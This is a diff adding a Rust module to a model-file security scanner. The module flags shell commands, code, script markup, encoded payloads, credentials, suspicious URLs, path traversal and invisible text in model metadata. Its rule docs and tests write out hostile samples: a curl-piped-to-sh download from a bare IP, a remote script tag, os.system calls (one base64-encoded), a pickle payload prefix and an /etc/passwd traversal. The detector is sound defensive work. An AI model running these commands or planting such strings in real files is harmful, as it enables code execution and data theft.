@@ -1,0 +1,391 @@
+//! Free text in a model's metadata that is more than text: commands, code, markup, encoded payloads, addresses, keys.
+//!
+//! [`inspect_metadata`] is the one place that judges such strings, whatever format carries them. A pattern counts only in
+//! the position in which it would act (a call, a command at the start of a line, an attribute inside a tag), so that prose
+//! which mentions a word stays silent; in Markdown documents, where shown commands are normal, everything grades one step
+//! milder. Cost: one Aho-Corasick pass over the text with a bounded look at each hit, plus one pass for encoded runs.
+
+mod address;
+mod encoded;
+mod patterns;
+mod secret;
+
+use crate::Scan;
+use bartizan_core::{Confidence, Finding, Location, Rule, Severity, atlas, cwe, owasp_llm, owasp_ml, rule};
+
+pub use address::{is_sensitive_path, path_escape};
+
+/// Judges one metadata string of any format, found at `place` inside the current input.
+pub fn inspect_metadata(text: &str, place: &Location, scan: &mut Scan<'_>) {
+    let inspected = text.get(..text.floor_char_boundary(TEXT_BYTES)).unwrap_or(text);
+    if inspected.len() < text.len() {
+        scan.gap(
+            place.offset,
+            format!("metadata text longer than {TEXT_BYTES} bytes was read only to there"),
+        );
+    }
+    let mut passage =
+        Passage { text: inspected, document: is_document(inspected), hidden: None, marks: Vec::new() };
+    passage.judge();
+    let mut payloads = Vec::new();
+    encoded::judge(&mut passage, &mut payloads, encoded::DEPTH);
+    for mark in passage.marks {
+        let finding = Finding::new(mark.rule, mark.message)
+            .located(place)
+            .severity(mark.severity)
+            .confidence(mark.confidence)
+            .evidence(mark.evidence);
+        scan.report(finding);
+    }
+    for (name, bytes) in payloads {
+        scan.member(&name, &bytes);
+    }
+}
+
+/// Every rule [`inspect_metadata`] may report.
+pub static RULES: &[&Rule] = &[
+    &METADATA_COMMAND,
+    &METADATA_CODE,
+    &METADATA_MARKUP,
+    &METADATA_PAYLOAD,
+    &METADATA_CREDENTIAL,
+    &METADATA_URL,
+    &METADATA_PATH,
+    &METADATA_HIDDEN_TEXT,
+];
+
+/// Longest text looked at, in bytes: larger than any model card, small enough to stay quick.
+const TEXT_BYTES: usize = 16 << 20;
+/// From this length, in bytes, a text may be a Markdown document rather than a value.
+const DOCUMENT_BYTES: usize = 300;
+/// How much around a hit is shown, in bytes before and after.
+const SHOWN: (usize, usize) = (40, 160);
+
+/// A text under judgement and what was seen in it, the worst of each rule.
+struct Passage<'t> {
+    text: &'t str,
+    /// Whether it is a Markdown document, in which shown commands and code are normal.
+    document: bool,
+    /// How the text was hidden, for example `base64`, when it was decoded from another one.
+    hidden: Option<String>,
+    marks: Vec<Mark>,
+}
+
+/// One thing seen.
+struct Mark {
+    rule: &'static Rule,
+    severity: Severity,
+    confidence: Confidence,
+    message: String,
+    evidence: String,
+}
+
+impl Passage<'_> {
+    fn judge(&mut self) {
+        patterns::judge(self);
+        address::judge(self);
+        secret::judge(self);
+        self.hidden_text();
+    }
+
+    /// Notes that what stands at `start` is `what`; keeps the worst of each rule.
+    fn mark(&mut self, rule: &'static Rule, severity: Severity, start: usize, what: &str) {
+        let severity = match (self.document, self.hidden.is_some()) {
+            (true, false) => step(severity, false),
+            (_, true) => step(severity, true),
+            (false, false) => severity,
+        };
+        let message = match &self.hidden {
+            Some(how) => format!("metadata hides {what} behind {how}"),
+            None => format!("metadata holds {what}"),
+        };
+        let from = self.text.floor_char_boundary(start.saturating_sub(SHOWN.0));
+        let to = self.text.floor_char_boundary(start.saturating_add(SHOWN.1));
+        let evidence = self.text.get(from..to).unwrap_or_default().to_owned();
+        let confidence = if self.document { Confidence::Low } else { Confidence::Medium };
+        let mark = Mark { rule, severity, confidence, message, evidence };
+        match self.marks.iter_mut().find(|known| known.rule.id == rule.id) {
+            Some(known) if known.severity < mark.severity => *known = mark,
+            Some(_) => {}
+            None => self.marks.push(mark),
+        }
+    }
+
+    /// Terminal escapes, and the Unicode tag characters that carry text no one sees.
+    fn hidden_text(&mut self) {
+        if let Some(at) = self.text.find("\u{1b}[").or_else(|| self.text.find("\u{1b}]")) {
+            self.mark(&METADATA_HIDDEN_TEXT, Severity::Medium, at, "a terminal escape sequence");
+        }
+        let tags = |c: char| ('\u{E0020}'..='\u{E007E}').contains(&c);
+        // Flags of nations without a country code are the one honest use: six tags at most after a black flag.
+        let most = self.text.split(|c| !tags(c)).map(|run| run.chars().count()).max().unwrap_or(0);
+        if most > 6
+            && let Some(at) = self.text.find(tags)
+        {
+            self.mark(
+                &METADATA_HIDDEN_TEXT,
+                Severity::Medium,
+                at,
+                "text written in invisible tag characters",
+            );
+        }
+    }
+}
+
+/// One step worse, never past high; or one step milder, never below low.
+fn step(severity: Severity, worse: bool) -> Severity {
+    match (severity, worse) {
+        (Severity::Low, true) | (Severity::High, false) => Severity::Medium,
+        (Severity::Medium, true) | (Severity::Critical, false) => Severity::High,
+        (Severity::Medium, false) => Severity::Low,
+        (kept, _) => kept,
+    }
+}
+
+/// Whether a text is a Markdown document such as a model card.
+fn is_document(text: &str) -> bool {
+    text.len() >= DOCUMENT_BYTES && ["```", "](http", "\n## ", "\n# "].iter().any(|mark| text.contains(mark))
+}
+
+rule! {
+    /// ## What it finds
+    /// A shell command in the metadata of a model: a download piped into a shell, a reverse shell, an encoded PowerShell
+    /// command, a recursive delete.
+    /// ## Why it matters
+    /// Metadata describes weights. A command there waits for a tool that hands metadata to a shell, a template or an
+    /// agent, or marks the file as the carrier of an attack whose trigger lies elsewhere.
+    /// ## Example
+    /// `"setup": "curl http://203.0.113.7/i | sh"` in the header of a safetensors file.
+    /// ## How to fix
+    /// Ask the publisher what the string is for; strip the metadata before the model is used.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/78.html>
+    pub const METADATA_COMMAND: Rule = Rule {
+        id: "model/metadata-command",
+        title: "a shell command in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the metadata, and find out who put a command there before the model is used.",
+        taxonomies: &[atlas("AML.T0010.003"), cwe(78), owasp_llm("LLM03"), owasp_ml("ML06")],
+    };
+
+    /// ## What it finds
+    /// Source code that runs commands, imports modules or evaluates text, in the metadata of a model; also attribute
+    /// chains that escape template sandboxes (`__globals__`, `__subclasses__`).
+    /// ## Why it matters
+    /// Loaders and tools have evaluated metadata before (Keras, NeMo, GGUF chat templates). Weights need none of it.
+    /// ## Example
+    /// `"init": "__import__('os').system('id')"`.
+    /// ## How to fix
+    /// Strip the metadata; never pass it to `eval`, a template engine or an agent.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/94.html>
+    pub const METADATA_CODE: Rule = Rule {
+        id: "model/metadata-code",
+        title: "code in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the metadata, and never evaluate it; find out who put code there.",
+        taxonomies: &[atlas("AML.T0010.003"), cwe(94), cwe(95), owasp_llm("LLM03"), owasp_ml("ML06")],
+    };
+
+    /// ## What it finds
+    /// Script elements, event-handler attributes, `javascript:` addresses or XML entity declarations in metadata.
+    /// ## Why it matters
+    /// Model hubs, experiment trackers and dashboards show metadata in a browser; markup that is not escaped runs there
+    /// with the viewer's session.
+    /// ## Example
+    /// `"author": "<script src=//203.0.113.7/x.js></script>"`.
+    /// ## How to fix
+    /// Strip the metadata; escape it wherever it is shown.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/79.html>
+    pub const METADATA_MARKUP: Rule = Rule {
+        id: "model/metadata-active-markup",
+        title: "active markup in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the markup, and escape metadata wherever it is shown.",
+        taxonomies: &[atlas("AML.T0010.003"), cwe(79), owasp_llm("LLM05")],
+    };
+
+    /// ## What it finds
+    /// Base64 or hexadecimal text in metadata that decodes to a pickle, an executable, an archive, or to text that would
+    /// itself be a finding.
+    /// ## Why it matters
+    /// Encoding a payload hides it from a reader and from scanners that search for words.
+    /// ## Example
+    /// `"note": "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU…"`: a pickle that calls `posix.system`.
+    /// ## How to fix
+    /// Strip the value; never decode and load it.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/506.html>
+    pub const METADATA_PAYLOAD: Rule = Rule {
+        id: "model/metadata-encoded-payload",
+        title: "an encoded payload in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the encoded value; do not decode and load it.",
+        taxonomies: &[atlas("AML.T0018.002"), cwe(506), owasp_llm("LLM03"), owasp_ml("ML06")],
+    };
+
+    /// ## What it finds
+    /// A credential of a well-known format (cloud key, forge token, model hub token, private key) in metadata.
+    /// ## Why it matters
+    /// Everyone who downloads the model holds the key.
+    /// ## Example
+    /// `"wandb_env": "HF_TOKEN=hf_…"`.
+    /// ## How to fix
+    /// Revoke the credential, then publish the file without it.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/798.html>
+    pub const METADATA_CREDENTIAL: Rule = Rule {
+        id: "model/metadata-credential",
+        title: "a credential in its metadata",
+        severity: Severity::Medium,
+        remedy: "Revoke the credential, then publish the file without it.",
+        taxonomies: &[cwe(798), cwe(312), owasp_llm("LLM02")],
+    };
+
+    /// ## What it finds
+    /// Addresses in metadata that lead to executables, tunnels, request catchers, link shorteners or bare IP addresses,
+    /// and values that are nothing but the address of a host no model is usually published on.
+    /// ## Why it matters
+    /// A value that is an address is meant to be fetched by something; such hosts are where payloads are staged and stolen
+    /// data is sent.
+    /// ## Example
+    /// `"callback_url": "https://3f2a.ngrok.io/hook"`.
+    /// ## How to fix
+    /// Check what reads the value; remove addresses that are not documentation.
+    /// ## References
+    /// - <https://atlas.mitre.org/techniques/AML.T0025>
+    pub const METADATA_URL: Rule = Rule {
+        id: "model/metadata-url",
+        title: "a suspicious address in its metadata",
+        severity: Severity::Low,
+        remedy: "Check what reads this address, and remove it unless it is documentation.",
+        taxonomies: &[atlas("AML.T0025"), cwe(829), owasp_llm("LLM03")],
+    };
+
+    /// ## What it finds
+    /// Paths in metadata that climb out of a folder (`../../`) or name files that hold secrets.
+    /// ## Why it matters
+    /// A tool that opens or writes what metadata names follows the path out of the model's folder.
+    /// ## Example
+    /// A GGUF key called `../../../etc/passwd`.
+    /// ## How to fix
+    /// Strip the value; resolve paths from metadata only inside the model's folder.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/22.html>
+    pub const METADATA_PATH: Rule = Rule {
+        id: "model/metadata-path",
+        title: "a path that leaves the model's folder in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the path, and resolve paths from metadata only inside the model's folder.",
+        taxonomies: &[atlas("AML.T0010.003"), cwe(22), owasp_llm("LLM03")],
+    };
+
+    /// ## What it finds
+    /// Terminal escape sequences, or text in invisible Unicode tag characters, in metadata.
+    /// ## Why it matters
+    /// Escapes rewrite what a terminal shows of the file; invisible text is read by language models and by nobody else.
+    /// ## Example
+    /// A description that ends in `ESC[2J` and a forged "no issues found".
+    /// ## How to fix
+    /// Strip the characters; show metadata escaped.
+    /// ## References
+    /// - <https://cwe.mitre.org/data/definitions/150.html>
+    pub const METADATA_HIDDEN_TEXT: Rule = Rule {
+        id: "model/metadata-hidden-text",
+        title: "hidden or terminal-steering text in its metadata",
+        severity: Severity::Medium,
+        remedy: "Strip the control or tag characters.",
+        taxonomies: &[atlas("AML.T0051"), cwe(150), owasp_llm("LLM01")],
+    };
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use bartizan_core::{Limits, MonotonicClock};
+    use proptest::prelude::*;
+
+    /// What a text gives, as `rule severity` lines.
+    pub(super) fn seen(text: &str) -> Vec<(&'static str, Severity)> {
+        let limits = Limits::default();
+        let clock = MonotonicClock::start();
+        let mut scan = Scan::new(&limits, &clock);
+        inspect_metadata(text, &Location::default(), &mut scan);
+        scan.findings().iter().map(|finding| (finding.rule.id, finding.severity)).collect()
+    }
+
+    #[test]
+    fn a_download_piped_into_a_shell_is_high() {
+        assert_eq!(
+            seen("run curl -s http://203.0.113.7/i | sudo bash"),
+            [(METADATA_COMMAND.id, Severity::High), (METADATA_URL.id, Severity::Medium)]
+        );
+    }
+
+    #[test]
+    fn prose_that_mentions_words_is_silent() {
+        let prose = "Execution metrics from evaluation pipeline. No command invocation. We import os data, execute \
+                     model.eval() and system tests; see https://huggingface.co/org/model and https://arxiv.org/abs/1706.03762. \
+                     Download the script tag list (javascript) for the curl dataset.";
+        assert_eq!(seen(prose), []);
+    }
+
+    #[test]
+    fn a_model_card_with_a_shell_example_stays_below_high() {
+        let card = format!(
+            "# Model\n\n{}\n```bash\ncurl -fsSL https://ollama.com/install.sh | sh\n```\n",
+            "text ".repeat(80)
+        );
+        assert!(seen(&card).iter().all(|(_, severity)| *severity < Severity::High));
+    }
+
+    #[test]
+    fn code_that_runs_a_command_is_high() {
+        assert_eq!(seen("import os; os.system('id')"), [(METADATA_CODE.id, Severity::High)]);
+    }
+
+    #[test]
+    fn switching_a_network_to_evaluation_is_not_code() {
+        assert_eq!(seen("model.eval() then torch.compile(model)"), []);
+    }
+
+    #[test]
+    fn encoded_code_is_decoded_and_high() {
+        // __import__('os').system('id')
+        assert!(
+            seen("X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJyk=").contains(&(METADATA_CODE.id, Severity::High))
+        );
+    }
+
+    #[test]
+    fn a_digest_is_not_an_encoded_payload() {
+        assert_eq!(seen("sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"), []);
+    }
+
+    #[test]
+    fn a_script_element_is_active_markup_but_a_comparison_is_not() {
+        assert_eq!(seen("<script>alert(1)</script>"), [(METADATA_MARKUP.id, Severity::Medium)]);
+        assert_eq!(seen("a <b and onload = 3 > 2"), []);
+    }
+
+    #[test]
+    fn a_terminal_escape_is_hidden_text_but_a_flag_is_not() {
+        assert_eq!(seen("ok\u{1b}[2J"), [(METADATA_HIDDEN_TEXT.id, Severity::Medium)]);
+        assert_eq!(seen("\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}"), []);
+    }
+
+    proptest! {
+        #[test]
+        fn any_text_gives_a_result(text in "\\PC{0,400}") {
+            seen(&text);
+        }
+
+        #[test]
+        fn any_mix_of_indicators_gives_a_result(parts in proptest::collection::vec(
+            prop_oneof![Just("curl "), Just("http://"), Just("é"), Just("<"), Just("eval("), Just("| sh"), Just("../"),
+                Just("AKIA"), Just("\\x41"), Just("gASV"), Just("====="), Just("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")], 0..40)) {
+            seen(&parts.concat());
+        }
+    }
+}
